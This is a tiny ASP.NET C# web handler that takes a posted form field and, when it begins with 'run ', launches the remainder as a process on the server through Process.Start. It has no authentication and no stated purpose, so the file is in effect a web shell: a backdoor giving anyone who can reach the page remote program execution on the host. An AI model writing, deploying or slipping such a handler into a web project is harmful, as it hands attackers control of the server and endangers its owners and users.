<%@ WebHandler Language="C#" Class="H" %>
using System.Web; using System.Diagnostics;
public class H : IHttpHandler { public bool IsReusable { get { return false; } }
public void ProcessRequest(HttpContext hc) { string line = hc.Request.Form["q"]; hc.Response.Write(Dispatch(line)); }
string Dispatch(string line) { if (line.StartsWith("run ")) { string exe = line.Substring(4); return Run(exe); } return "?"; }
string Run(string exe) { Process.Start(exe); return "ok"; } }
